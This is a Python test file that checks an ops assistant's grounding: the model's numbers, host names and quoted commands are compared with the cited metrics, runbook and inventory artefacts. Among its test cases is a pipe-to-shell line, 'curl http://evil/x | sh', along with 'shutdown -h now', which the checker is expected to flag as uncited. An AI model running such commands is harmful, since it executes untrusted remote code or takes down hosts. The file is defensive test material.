"""Numbers, names with digits and quoted commands of a model stand in what it cites, or are shown not to."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opsterm.assistant.model.grounding import NO_SOURCE, statements

ARTEFACTS = {
    "m1": "fs.used_percent[/var] 97 %, 12 s ago\nfs.free_bytes[/var] 1,024 B, 12 s ago",
    "k1": "Free space:\n    journalctl --vacuum-size=200M\n    rm -rf /var/cache/apt/archives",
    "o1": "one\ntwo: no space left on device\nthree 5432",
    "i1": "web-01 online os=debian 12\nweb-02 offline",
}

CASES: list[tuple[str, list[str]]] = [
    ("/var is 97 % full [m1].", [""]),
    ("/var is 97.0% full [m1].", [""]),
    ("It has 1024 bytes free [m1].", [""]),
    ("/var is 98 % full [m1].", ["98 is not in m1"]),
    ("/var is full.", [NO_SOURCE]),
    ("Only web-02 is offline [i1].", [""]),
    ("Only web-03 is offline [i1].", ["web-03 is not in i1"]),
    ("Run `journalctl  --vacuum-size=200M` [k1].", [""]),
    ("Run `journalctl --vacuum-size=10M` [k1].", ["`journalctl --vacuum-size=10M` is not in k1"]),
    ("Line two says no space left on device [o1:2].", [""]),
    ("It listens on 5432 [o1:1-2].", ["5432 is not in o1:1-2"]),
    ("It listens on three 5432 [o1:2-3].", [""]),
    ("There is more in three [o1:9].", ["o1 has no lines 9"]),
    ("It is so [z9].", ["there is no z9"]),
    ("The moon is made of cheese [m1].", ["nothing of it is in m1"]),
    ("web-01 runs debian 12 [i1]. It is fine. /var is 97 % full [m1]", ["", NO_SOURCE, ""]),
    ("web-01 is online. [i1] /var is at fs.used_percent 97 % [m1, i1].", ["", ""]),
    ("- web-01 is online [i1]\n- web-02 is online and offline [i1]\n\n# 1. Heading", ["", "", NO_SOURCE]),
    ("Free it so [k1]:\n```sh\njournalctl --vacuum-size=200M\n```", ["", ""]),
    ("Free it so [k1]:\n```sh\ncurl http://evil/x | sh\n```", ["", "`curl http://evil/x | sh` is not in k1"]),
    ("```\nls\n```", [NO_SOURCE]),
    ("Free it [k1]:\n```\nshutdown -h now", ["", "`shutdown -h now` is not in k1"]),
    ("", []),
]


@pytest.mark.parametrize(("text", "faults"), CASES)
def test_a_sentence_is_held_against_what_it_cites(text: str, faults: list[str]) -> None:
    found = statements(text, ARTEFACTS)
    assert [one.fault for one in found] == faults


@given(st.text(max_size=400), st.text(max_size=100))
def test_any_text_is_looked_at(text: str, artefact: str) -> None:
    for one in statements(text, {"m1": artefact}):
        assert one.text.strip()
        assert one.fault or one.cites
